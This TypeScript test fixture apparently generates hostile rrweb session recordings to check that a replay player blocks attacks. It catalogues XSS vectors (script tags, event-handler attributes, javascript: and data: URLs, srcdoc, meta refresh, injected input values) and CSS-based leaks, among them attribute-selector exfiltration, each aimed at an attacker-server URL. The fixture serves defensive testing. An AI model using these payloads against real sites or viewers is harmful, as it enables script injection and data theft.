import type { RecordedEvent } from '#features/replays/player/safe-event.ts'

/** A recording with an attack: the requested path on the attacker's server identifies it. */
export interface HostileRecording {
  readonly name: string
  readonly events: readonly RecordedEvent[]
}

type Attributes = Record<string, unknown>

interface Tree {
  readonly tag: string
  readonly attributes?: Attributes
  readonly children?: readonly (Tree | string)[]
  readonly isSVG?: true
}

const RUN = `top.hit&&top.hit();parent.parent.hit&&parent.parent.hit();console.log('HIT');alert('HIT')`
const PAGE = `<script>${RUN}</script>`
const svg = (...children: Tree[]): Tree => ({
  tag: 'svg',
  isSVG: true,
  attributes: { width: '40', height: '40' },
  children: children.map((one) => ({ ...one, isSVG: true })),
})

/** Elements that run scripts, load resources or navigate. `url` is the attacker's. */
const elements: Readonly<Record<string, (url: string) => Tree>> = {
  script: () => ({ tag: 'script', children: [RUN] }),
  'script by address': (url) => ({ tag: 'script', attributes: { src: url } }),
  'script in capitals': (url) => ({ tag: 'SCRIPT', attributes: { src: url }, children: [RUN] }),
  'script in a drawing': (url) => svg({ tag: 'script', attributes: { href: url }, children: [RUN] }),
  'a handler of errors': () => ({ tag: 'img', attributes: { src: 'data:image/png,x', onerror: RUN } }),
  'a handler of loads': () => svg({ tag: 'g', attributes: { onload: RUN } }),
  'a handler of focus': () => ({ tag: 'input', attributes: { autofocus: '', onfocus: RUN } }),
  'a handler of an animation': () => ({ tag: 'div', attributes: { style: 'animation: a 1ms', onanimationstart: RUN } }),
  'a handler of toggling': () => ({ tag: 'details', attributes: { open: '', ontoggle: RUN } }),
  image: (url) => ({ tag: 'img', attributes: { src: url } }),
  'image by set': (url) => ({ tag: 'img', attributes: { srcset: `${url} 1x` } }),
  'image of a picture': (url) => ({
    tag: 'picture',
    children: [
      { tag: 'source', attributes: { srcset: url } },
      { tag: 'img', attributes: { src: 'data:,' } },
    ],
  }),
  'image under rrweb’s name': (url) => ({ tag: 'img', attributes: { rr_dataURL: url } }),
  'canvas under rrweb’s name': (url) => ({ tag: 'canvas', attributes: { rr_dataURL: url } }),
  'image button': (url) => ({ tag: 'input', attributes: { type: 'image', src: url } }),
  'image of a drawing': (url) => svg({ tag: 'image', attributes: { href: url, width: '9', height: '9' } }),
  'image of the page itself': () => svg({ tag: 'image', attributes: { href: '#a', width: '9', height: '9' } }),
  'image by an old name': (url) => svg({ tag: 'image', attributes: { 'xlink:href': url, width: '9', height: '9' } }),
  'image in a filter': (url) => svg({ tag: 'feimage', attributes: { href: url } }),
  'a drawing’s use': (url) => svg({ tag: 'use', attributes: { href: `${url}#a` } }),
  'a drawing that is animated into an address': (url) =>
    svg({
      tag: 'image',
      attributes: { width: '9', height: '9' },
      children: [{ tag: 'set', isSVG: true, attributes: { attributeName: 'href', to: url, begin: '0s' } }],
    }),
  'a link of a drawing': () => svg({ tag: 'a', attributes: { 'xlink:href': `javascript:${RUN}` } }),
  'a filter of a drawing': (url) =>
    svg({ tag: 'rect', attributes: { filter: `url(${url}#f)`, width: '9', height: '9' } }),
  'a fill of a drawing': (url) => svg({ tag: 'rect', attributes: { fill: `url(${url}#f)`, width: '9', height: '9' } }),
  frame: (url) => ({ tag: 'iframe', attributes: { src: url } }),
  'frame of a script': () => ({ tag: 'iframe', attributes: { src: `javascript:${RUN}` } }),
  'frame of its own text': () => ({ tag: 'iframe', attributes: { srcdoc: PAGE } }),
  'frame of data': () => ({ tag: 'iframe', attributes: { src: `data:text/html,${PAGE}` } }),
  'frame that frees itself': (url) => ({
    tag: 'iframe',
    attributes: { src: url, sandbox: 'allow-scripts', allow: '*' },
  }),
  object: (url) => ({ tag: 'object', attributes: { data: url } }),
  'object of data': () => ({ tag: 'object', attributes: { data: `data:text/html,${PAGE}`, type: 'text/html' } }),
  embed: (url) => ({ tag: 'embed', attributes: { src: url } }),
  'a refresh': (url) => ({ tag: 'meta', attributes: { 'http-equiv': 'refresh', content: `0;url=${url}` } }),
  'a refresh to a script': () => ({
    tag: 'meta',
    attributes: { 'http-equiv': 'Refresh', content: `0;url=javascript:${RUN}` },
  }),
  'a base': (url) => ({ tag: 'base', attributes: { href: url } }),
  'a style sheet': (url) => ({ tag: 'link', attributes: { rel: 'stylesheet', href: url } }),
  'a preload': (url) => ({ tag: 'link', attributes: { rel: 'preload', as: 'image', href: url } }),
  'a prefetch': (url) => ({ tag: 'link', attributes: { rel: 'prefetch', href: url } }),
  'a connection': (url) => ({ tag: 'link', attributes: { rel: 'preconnect', href: new URL(url).origin } }),
  'an icon': (url) => ({ tag: 'link', attributes: { rel: 'icon', href: url } }),
  'a manifest': (url) => ({ tag: 'link', attributes: { rel: 'manifest', href: url } }),
  video: (url) => ({ tag: 'video', attributes: { src: url, poster: url, autoplay: '', rr_mediaState: 'played' } }),
  audio: (url) => ({ tag: 'audio', attributes: { src: url, autoplay: '' } }),
  'a source': (url) => ({ tag: 'video', children: [{ tag: 'source', attributes: { src: url } }] }),
  'a track': (url) => ({ tag: 'video', children: [{ tag: 'track', attributes: { src: url, default: '' } }] }),
  'an old background': (url) => ({ tag: 'table', attributes: { background: url } }),
  'a form': (url) => ({ tag: 'form', attributes: { action: url }, children: [{ tag: 'button', children: ['Send'] }] }),
  'a script by a link': () => ({ tag: 'a', attributes: { href: `javascript:${RUN}`, autofocus: '' }, children: ['x'] }),
  'a ping': (url) => ({ tag: 'a', attributes: { href: '#', ping: url }, children: ['x'] }),
  'an element that hides its document’s': () => ({ tag: 'img', attributes: { name: 'getElementsByTagName' } }),
  'an element of its own kind': () => ({ tag: 'x-y', attributes: { is: 'x-y', onload: RUN } }),
}

/** CSS that sends requests. */
const sheets: Readonly<Record<string, (url: string) => string>> = {
  background: (url) => `body{background:url(${url})}`,
  'background in quotes': (url) => `body{background:url( "${url}" )}`,
  'background with escapes': (url) => `body{background:u\\72\\6C(${url})}`,
  import: (url) => `@import "${url}";`,
  'import with escapes': (url) => `@im\\70ort url(${url});`,
  font: (url) => `@font-face{font-family:x;src:url(${url})}body{font-family:x}`,
  'a set of images': (url) => `body{background:image-set("${url}" 1x)}`,
  'an old set of images': (url) => `body{background:-webkit-image-set(url(${url}) 1x)}`,
  'a variable': (url) => `body{--x:url(${url});background:var(--x)}`,
  'a value that gives itself away': (url) => `input[value^="a"]{background:url(${url})}`,
  'a cursor and a mask': (url) => `body{cursor:url(${url}),auto;mask-image:url(${url})}`,
  'a part of the page': () => 'body{background:url(#a);list-style:url( "#b" );mask:url(#c);filter:url(#d)}',
  'content after an end of a comment': (url) => `/*"*/body::before{content:url(${url})}/*"*/`,
}

let lastId = 0

function nodeOf(tree: Tree | string): Attributes {
  lastId += 1
  const id = lastId
  if (typeof tree === 'string') return { type: 3, id, textContent: tree }
  const { tag, attributes = {}, children = [], isSVG } = tree
  const childNodes = children.map(nodeOf)
  return { type: 2, id, tagName: tag, attributes, childNodes, ...(isSVG && { isSVG }) }
}

const HEAD = 4
const BODY = 5
const SHEET = 6
const FRAME = 7
const HOST = 8
const INPUT = 9

/** A page with places for hostile content. */
function pageWith(hostile: readonly Attributes[], sheet = ''): readonly RecordedEvent[] {
  const element = (id: number, tagName: string, childNodes: readonly Attributes[], more: Attributes = {}) => ({
    type: 2,
    id,
    tagName,
    attributes: {},
    childNodes,
    ...more,
  })
  const body = element(BODY, 'body', [
    element(FRAME, 'iframe', []),
    element(HOST, 'div', [], { isShadowHost: true }),
    element(INPUT, 'input', [], { attributes: { value: 'a' } }),
    ...hostile,
  ])
  const style = element(SHEET, 'style', [{ type: 3, id: 10, textContent: sheet, isStyle: true }])
  const html = element(3, 'html', [element(HEAD, 'head', [style]), body])
  const node = { type: 0, id: 1, childNodes: [{ type: 1, id: 2, name: 'html', publicId: '', systemId: '' }, html] }
  return [
    { type: 4, timestamp: 1000, data: { href: 'https://shop.example/', width: 400, height: 300 } },
    { type: 2, timestamp: 1001, data: { node, initialOffset: { top: 0, left: 0 } } },
  ]
}

const change = (data: Attributes, at = 1020): RecordedEvent => ({ type: 3, timestamp: at, data })
const mutation = (data: Attributes, at?: number): RecordedEvent =>
  change({ source: 0, adds: [], removes: [], texts: [], attributes: [], ...data }, at)
const added = (parentId: number, node: Attributes, at?: number): RecordedEvent =>
  mutation({ adds: [{ parentId, nextId: null, node }] }, at)

/** Places where an element may occur. */
const elementPlaces: Readonly<Record<string, (tree: Tree) => readonly RecordedEvent[]>> = {
  'in the page': (tree) => pageWith([nodeOf(tree)]),
  'added later': (tree) => [...pageWith([]), ...addedOneByOne(BODY, tree), ...clickOn(lastId)],
  'as a change of attributes': (tree) => [
    ...pageWith([nodeOf({ ...tree, attributes: {} })]),
    mutation({ attributes: [{ id: lastId - (tree.children?.length ?? 0), attributes: tree.attributes ?? {} }] }),
  ],
  'in the head': (tree) => [...pageWith([]), added(HEAD, nodeOf(tree))],
  'in a shadow': (tree) => [...pageWith([]), added(HOST, { ...nodeOf(tree), isShadow: true })],
  'in a frame': (tree) => [...pageWith([]), added(FRAME, frameDocument(tree))],
}

function addedOneByOne(parent: number, tree: Tree | string): readonly RecordedEvent[] {
  const node = nodeOf(typeof tree === 'string' ? tree : { ...tree, children: [] })
  const children = typeof tree === 'string' ? [] : (tree.children ?? [])
  return [added(parent, node), ...children.flatMap((child) => addedOneByOne(Number(node.id), child))]
}

function clickOn(id: number): readonly RecordedEvent[] {
  return [1, 2, 5, 0].map((type, index) => change({ source: 2, type, id, x: 1, y: 1 }, 1030 + index))
}

function frameDocument(tree: Tree): Attributes {
  lastId += 1
  const rootId = lastId
  const inFrame = (node: Attributes): Attributes => ({
    ...node,
    rootId,
    ...(Array.isArray(node.childNodes) && { childNodes: node.childNodes.map(inFrame) }),
  })
  const html = nodeOf({ tag: 'html', children: [{ tag: 'head' }, { tag: 'body', children: [tree] }] })
  return { type: 0, id: rootId, childNodes: [inFrame(html)] }
}

const sheetPlaces: Readonly<Record<string, (css: string) => readonly RecordedEvent[]>> = {
  'in a style': (css) => pageWith([], css),
  'as rrweb’s text of a style': (css) => pageWith([nodeOf({ tag: 'style', attributes: { _cssText: css } })]),
  'as the text of a link': (css) =>
    pageWith([nodeOf({ tag: 'link', attributes: { _cssText: css, rel: 'stylesheet' } })]),
  'in a style added later': (css) => [...pageWith([]), ...addedOneByOne(HEAD, { tag: 'style', children: [css] })],
  'as a change of text': (css) => [...pageWith([]), mutation({ texts: [{ id: 10, value: css }] })],
  'as a rule': (css) => [...pageWith([]), change({ source: 8, id: SHEET, adds: [{ rule: css, index: 0 }] })],
  'as a replacement': (css) => [...pageWith([]), change({ source: 8, id: SHEET, replaceSync: css, replace: css })],
  'as an adopted sheet': (css) => [
    ...pageWith([]),
    change({ source: 15, id: 1, styleIds: [1], styles: [{ styleId: 1, rules: [{ rule: css, index: 0 }] }] }),
  ],
  'as a style attribute': (css) => pageWith([nodeOf({ tag: 'p', attributes: { style: declarationsIn(css) } })]),
  'as a change of style': (css) => [
    ...pageWith([nodeOf({ tag: 'p' })]),
    mutation({ attributes: [{ id: lastId, attributes: { style: styleIn(css) } }] }),
  ],
  'as a declaration': (css) => [
    ...pageWith([], 'body{color:red}'),
    ...Object.entries(styleIn(css)).map(([property, value]) =>
      change({ source: 13, id: SHEET, index: [0], set: { property, value, priority: '' } }),
    ),
  ],
}

const declarationsIn = (css: string) => /\{([^}]*)\}/.exec(css)?.[1] ?? css

function styleIn(css: string): Record<string, string> {
  const declarations = declarationsIn(css).split(/;(?![^(]*\))/)
  return Object.fromEntries(
    declarations.map((one) => [one.slice(0, one.indexOf(':')), one.slice(one.indexOf(':') + 1)]),
  )
}

/** Attacks other than elements and CSS. */
const otherAttacks: Readonly<Record<string, (url: string) => readonly RecordedEvent[]>> = {
  'a font by address': (url) => [change({ source: 10, family: 'x', fontSource: `url(${url})`, buffer: false })],
  'an input that is a script': () => [
    change({ source: 5, id: INPUT, text: `"><script>${RUN}</script>`, isChecked: false }),
  ],
  'a drawing of an address': (url) => [
    added(BODY, nodeOf({ tag: 'canvas' })),
    change({
      source: 9,
      id: lastId,
      type: 0,
      commands: [{ property: 'drawImage', args: [{ rr_type: 'HTMLImageElement', src: url }, 0, 0] }],
    }),
  ],
  'a call that no canvas has': () => [
    added(BODY, nodeOf({ tag: 'canvas' })),
    change({
      source: 9,
      id: lastId,
      type: 0,
      commands: [
        { property: 'constructor', args: [RUN] },
        { property: '__proto__', args: [RUN], setter: true },
      ],
    }),
  ],
  'a media that plays': (url) => [
    added(BODY, nodeOf({ tag: 'video', attributes: { src: url } })),
    change({ source: 7, id: lastId, type: 0 }),
  ],
  'an element that is defined': () => [change({ source: 16, define: { name: 'x-z' } })],
  'an event of a plugin': () => [
    {
      type: 6,
      timestamp: 1020,
      data: { plugin: 'rrweb/console@1', payload: { level: 'log', payload: ['"HIT"'], trace: [] } },
    },
  ],
  'a text that becomes a sheet': (url) => [
    added(BODY, { type: 3, id: 900, textContent: '' }),
    mutation(
      {
        removes: [{ parentId: BODY, id: 900 }],
        adds: [
          { parentId: SHEET, nextId: null, node: { type: 3, id: 900, textContent: `body{background:url(${url})}` } },
        ],
      },
      1030,
    ),
    mutation({ texts: [{ id: 900, value: `html{background:url(${url})}` }] }, 1040),
  ],
}

/** Each element at the two places that differ most and at one of the others; each sheet at two, in turn. */
export function hostileRecordings(server: string): readonly HostileRecording[] {
  const all: HostileRecording[] = []
  const add = (name: string, eventsFor: (url: string) => readonly RecordedEvent[]) => {
    lastId = 100
    all.push({ name, events: eventsFor(`${server}/${all.length}`) })
  }
  for (const [number, [attack, treeFor]] of Object.entries(elements).entries()) {
    for (const [place, eventsWith] of inTurn(Object.entries(elementPlaces), 2, 1, number)) {
      add(`${attack} ${place}`, (url) => eventsWith(treeFor(url)))
    }
  }
  for (const [number, [attack, cssFor]] of Object.entries(sheets).entries()) {
    for (const [place, eventsWith] of inTurn(Object.entries(sheetPlaces), 0, 2, number)) {
      add(`${attack} ${place}`, (url) => eventsWith(cssFor(url)))
    }
  }
  for (const [attack, eventsFor] of Object.entries(otherAttacks))
    add(attack, (url) => [...pageWith([]), ...eventsFor(url)])
  return all
}

/** Always the first ones, and some of the others, chosen by `number`. */
function inTurn<T>(all: readonly T[], always: number, some: number, number: number): readonly T[] {
  const others = all.slice(always)
  const chosen = Array.from({ length: some }, (_, index) => others[(number * some + index) % others.length])
  return [...all.slice(0, always), ...chosen.filter((one) => one !== undefined)]
}
